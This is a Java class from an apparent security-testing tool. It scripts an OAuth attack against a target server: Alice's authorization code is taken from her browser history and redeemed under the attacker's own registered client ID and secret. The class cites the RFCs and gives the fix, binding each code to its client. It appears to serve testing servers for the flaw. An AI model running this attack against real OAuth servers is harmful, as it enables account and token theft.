package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import java.util.List;

/** Redeems a code that was issued to another client. */
@AutoService(Attack.class)
public final class OauthCodeOtherClient implements Attack {
  /** The program that the attacker runs. */
  private static final String OWN = "web";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "oauth-code-other-client",
        "The code of another program",
        AttackGroup.OAUTH,
        "The attacker runs a program of their own that is registered here, and has it redeem a code that was made out to Alice’s program.",
        "A code, and a program that the server knows.",
        "The server does not ask to which client a code was issued.",
        "code-any-client",
        List.of("RFC 6749 §4.1.3", "RFC 9700 §4.5"),
        "Note with each code the client that it is for, and compare.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    AskedPerson alice = new AskedPerson(target);
    String code = alice.code("Alice connects her program.", AskedPerson.request());
    target.makes("Find the code in the history of her browser.", "code", code);
    return alice.use(
        alice.tokens(
            AttackStep.ATTACKER,
            "Redeem it as the attacker's own program.",
            AskedPerson.redeeming(
                code,
                "client_id",
                OWN,
                "client_secret",
                target.loot().programSecret(OWN),
                "code_verifier",
                "")));
  }
}
